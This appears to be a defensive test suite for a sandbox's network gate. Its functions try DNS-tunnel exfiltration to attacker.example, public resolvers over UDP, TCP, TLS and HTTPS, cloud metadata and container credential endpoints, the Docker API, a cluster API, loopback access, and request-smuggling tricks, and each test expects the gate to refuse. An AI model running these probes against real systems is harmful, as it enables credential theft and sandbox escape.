"""What the gate is asked for and must not do: names that carry data out, addresses of the inner network, authorities that disagree."""

import ipaddress
import json
import os
import socket
import ssl
import struct

from immure.attack.attack import TARGETS, Stopped, attack, neighbour

NAMES = "gate: names are answered without being asked"
POLICY = "gate: policy"
ADDRESSES = "gate: no private addresses"
STRICT = "gate: one authority for each request"
ANYWHERE = "attacker.example"
"""A name that nobody can have (RFC 2606)."""
POOL = ipaddress.ip_network("198.18.0.0/15")
A, NULL, MX, TXT, HTTPS = 1, 10, 15, 16, 65
PATIENCE = 10


# ---------------------------------------------------------------- names


def query(name: str, kind: int) -> bytes:
    labels = b"".join(struct.pack("B", len(label)) + label.encode() for label in name.split("."))
    return struct.pack("!6H", 4711, 0x100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, kind, 1)


def answered(answer: bytes, asked: bytes) -> object:
    """Something that only a look-up can have brought; else how the gate got by without one."""
    _, flags, _, answers, _, _ = struct.unpack_from("!6H", answer)
    if not answers:
        raise Stopped("EMPTY" if flags & 15 == 0 else f"RCODE{flags & 15}")
    kind, _, _, length = struct.unpack_from("!HHIH", answer, len(asked) + 2)
    if kind == A and ipaddress.ip_address(answer[-length:]) in POOL:
        raise Stopped("POOL")
    return "answered"


def look_up(name: str, kind: int, server: str) -> object:
    asked = query(name, kind)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(PATIENCE)
        client.connect((server, 53))
        client.send(asked)
        return answered(client.recv(4096), asked)


def resolver() -> str:
    with open("/etc/resolv.conf") as file:
        return next(line.split()[1] for line in file if line.startswith("nameserver"))


@neighbour
def ask_the_resolver() -> object:
    try:
        return look_up(ANYWHERE, A, resolver())
    except Stopped as stopped:
        return stopped


@attack(NAMES, "POOL", control="ask_the_resolver")
def carry_data_out_in_a_name() -> object:
    return look_up(f"{'ab' * 30}.{'cd' * 30}.{ANYWHERE}", A, resolver())


@attack(NAMES, "POOL", control="ask_the_resolver")
def ask_a_public_resolver() -> object:
    return look_up(ANYWHERE, A, "8.8.8.8")


@attack(NAMES, "EMPTY", control="ask_the_resolver")
def have_text_sent_in_by_a_name() -> object:
    return look_up(ANYWHERE, TXT, resolver())


@attack(NAMES, "EMPTY", control="ask_the_resolver")
def have_bytes_sent_in_by_a_name() -> object:
    return look_up(ANYWHERE, NULL, resolver())


@attack(NAMES, "EMPTY", control="ask_the_resolver")
def have_another_name_sent_in_by_a_name() -> object:
    return look_up(ANYWHERE, MX, resolver())


@attack(NAMES, "EMPTY", control="ask_the_resolver")
def learn_the_key_that_hides_a_host_name() -> object:
    return look_up(ANYWHERE, HTTPS, resolver())


def framed(client: socket.socket) -> object:
    """The same question on a stream; an answer of the gate in HTTP is none."""
    asked = query(ANYWHERE, A)
    client.sendall(struct.pack("!H", len(asked)) + asked)
    answer = client.recv(4096)
    if not answer:
        raise Stopped("CLOSED")
    if answer.startswith(b"HTTP/"):
        raise Stopped("HTTP")
    return answered(answer[2:], asked)


@attack(POLICY, "POOL CLOSED HTTP ECONNRESET", control="ask_the_resolver")
def ask_a_public_resolver_by_tcp() -> object:
    with socket.create_connection(("8.8.8.8", 53), PATIENCE) as client:
        return framed(client)


@attack(POLICY, "POOL CLOSED HTTP ECONNRESET", control="be_refused_in_tls")
def ask_a_public_resolver_by_tls() -> object:
    with socket.create_connection(("8.8.8.8", 853), PATIENCE) as client, unverified().wrap_socket(client) as secure:
        return framed(secure)


@attack(POLICY, "denied_by_policy", control="be_refused_in_tls")
def ask_a_public_resolver_by_https() -> object:
    request = b"GET /dns-query?name=secret.attacker.example HTTP/1.1\r\nHost: attacker.example\r\n\r\n"
    return reach(ANYWHERE, 443, request, server_name=ANYWHERE)


# ---------------------------------------------------------------- addresses and authorities


def unverified() -> ssl.SSLContext:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def reach(host: str, port: int, request: bytes, *, server_name: str | None = None) -> object:
    """An answer that is not the gate's own; else the code of its refusal."""
    with socket.create_connection((host, port), PATIENCE) as client:
        stream = client if server_name is None else unverified().wrap_socket(client, server_hostname=server_name)
        stream.sendall(request)
        answer = b""
        while b"}}" not in answer and (data := stream.recv(65536)):
            answer += data
        if stream is not client:
            stream.close()
    return what_came(answer)


def what_came(answer: bytes) -> object:
    if not answer:
        raise Stopped("CLOSED")
    code = refusal(answer).get("code")
    if isinstance(code, str):
        raise Stopped(code)
    return "answered"


def refusal(answer: bytes) -> "dict[str, object]":
    """What the gate says, if it is the gate that speaks."""
    try:
        found = json.loads(answer.partition(b"\r\n\r\n")[2])["error"]
    except (ValueError, KeyError, TypeError):
        return {}
    return found if isinstance(found, dict) else {}


def get(host: str, port: int, path: str = "/", fields: str = "") -> object:
    authority = f"[{host}]:{port}" if ":" in host else f"{host}:{port}"
    return reach(host, port, f"GET {path} HTTP/1.1\r\nHost: {authority}\r\n{fields}Connection: close\r\n\r\n".encode())


@neighbour
def be_refused_in_tls() -> object:
    try:
        reach(ANYWHERE, 443, b"GET / HTTP/1.1\r\nHost: attacker.example\r\nConnection: close\r\n\r\n", server_name=ANYWHERE)
    except Stopped as stopped:
        return stopped
    raise OSError(0, "not refused")


@neighbour
def be_refused_in_plain_http() -> object:
    try:
        get(ANYWHERE, 80)
    except Stopped as stopped:
        return stopped
    raise OSError(0, "not refused")


REFUSED = "denied_by_policy"


@attack(POLICY, f"{REFUSED} ECONNREFUSED")
def connect_to_an_address_of_the_host() -> object:
    return get(TARGETS["address"], TARGETS["tcp"])


@attack(POLICY, f"{REFUSED} ECONNREFUSED")
def connect_to_an_address_of_the_host_in_ipv6_form() -> object:
    return reach(
        f"::ffff:{TARGETS['address']}", TARGETS["tcp"], f"GET / HTTP/1.1\r\nHost: {TARGETS['address']}:{TARGETS['tcp']}\r\n\r\n".encode()
    )


@attack(POLICY, f"{REFUSED} ECONNREFUSED")
def connect_without_the_variables_of_a_proxy() -> object:
    for name in [name for name in os.environ if name.lower().endswith("_proxy")]:
        del os.environ[name]
    return get(TARGETS["address"], TARGETS["tcp"])


@attack(POLICY, "ECONNREFUSED")
def connect_to_the_unspecified_address() -> object:
    return get("0.0.0.0", TARGETS["tcp"])


@attack(ADDRESSES, "address_refused")
def connect_to_the_hosts_loopback_by_an_allowed_name() -> object:
    """Reach the host's loopback by a name that policy allows, and that resolves to it"""
    if TARGETS["is_inside"]:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.settimeout(PATIENCE)
            client.connect((resolver(), 53))
            client.send(query("localhost", A))
            host = str(ipaddress.ip_address(client.recv(4096)[-4:]))
    else:
        host = "127.0.0.1"
    return reach(host, TARGETS["tcp"], f"GET / HTTP/1.1\r\nHost: localhost:{TARGETS['tcp']}\r\nConnection: close\r\n\r\n".encode())


@attack(POLICY, REFUSED, control="be_refused_in_plain_http")
def read_the_metadata_of_a_cloud() -> object:
    return get("169.254.169.254", 80, "/latest/meta-data/")


@attack(POLICY, REFUSED, control="be_refused_in_plain_http")
def read_the_metadata_of_a_cloud_that_asks_for_a_header() -> object:
    return get("169.254.169.254", 80, "/computeMetadata/v1/", "Metadata-Flavor: Google\r\n")


@attack(POLICY, REFUSED, control="be_refused_in_plain_http")
def read_the_metadata_of_a_cloud_by_ipv6() -> object:
    return get("fd00:ec2::254", 80, "/latest/meta-data/")


@attack(POLICY, REFUSED, control="be_refused_in_plain_http")
def read_the_metadata_of_a_cloud_by_its_name() -> object:
    return get("metadata.google.internal", 80, "/computeMetadata/v1/", "Metadata-Flavor: Google\r\n")


@attack(POLICY, REFUSED, control="be_refused_in_plain_http")
def read_the_credentials_of_a_container() -> object:
    return get("169.254.170.2", 80, "/v2/credentials/")


@attack(POLICY, REFUSED, control="be_refused_in_plain_http")
def read_the_metadata_at_a_public_address() -> object:
    return get("168.63.129.16", 80, "/machine/?comp=goalstate")


@attack(POLICY, REFUSED, control="be_refused_in_plain_http")
def start_a_container_by_docker() -> object:
    return get("172.17.0.1", 2375, "/containers/json")


@attack(POLICY, REFUSED, control="be_refused_in_plain_http")
def ask_the_api_of_a_cluster() -> object:
    return get("10.96.0.1", 443, "/api")


@attack(POLICY, REFUSED, control="be_refused_in_plain_http")
def connect_to_the_gates_own_port_on_another_address() -> object:
    return get("198.18.255.254", TARGETS["tcp"])


def to_anywhere(head: str) -> object:
    """On a connection to a name that is nobody's, a request for the listener of the host."""
    text = head.format(target=f"127.0.0.1:{TARGETS['tcp']}").replace("\n", "\r\n")
    return reach(ANYWHERE, 80, f"{text}\r\nConnection: close\r\n\r\n".encode())


MISDIRECTED = "misdirected_request bad_request"


@attack(STRICT, MISDIRECTED, control="be_refused_in_plain_http")
def name_another_host_in_the_request() -> object:
    return to_anywhere("GET / HTTP/1.1\nHost: {target}")


@attack(STRICT, MISDIRECTED, control="be_refused_in_plain_http")
def name_another_host_in_the_request_line() -> object:
    return to_anywhere("GET http://{target}/ HTTP/1.1\nHost: attacker.example")


@attack(STRICT, MISDIRECTED, control="be_refused_in_plain_http")
def name_two_hosts() -> object:
    return to_anywhere("GET / HTTP/1.1\nHost: attacker.example\nHost: {target}")


@attack(STRICT, MISDIRECTED, control="be_refused_in_plain_http")
def ask_the_gate_for_a_tunnel() -> object:
    return to_anywhere("CONNECT {target} HTTP/1.1\nHost: {target}")


@attack(STRICT, MISDIRECTED, control="be_refused_in_plain_http")
def hide_a_request_behind_two_lengths() -> object:
    return to_anywhere("POST / HTTP/1.1\nHost: attacker.example\nContent-Length: 4\nTransfer-Encoding: chunked")


@attack(STRICT, MISDIRECTED, control="be_refused_in_plain_http")
def name_a_host_with_a_zero_byte() -> object:
    return to_anywhere("GET / HTTP/1.1\nHost: attacker.example\0.{target}")
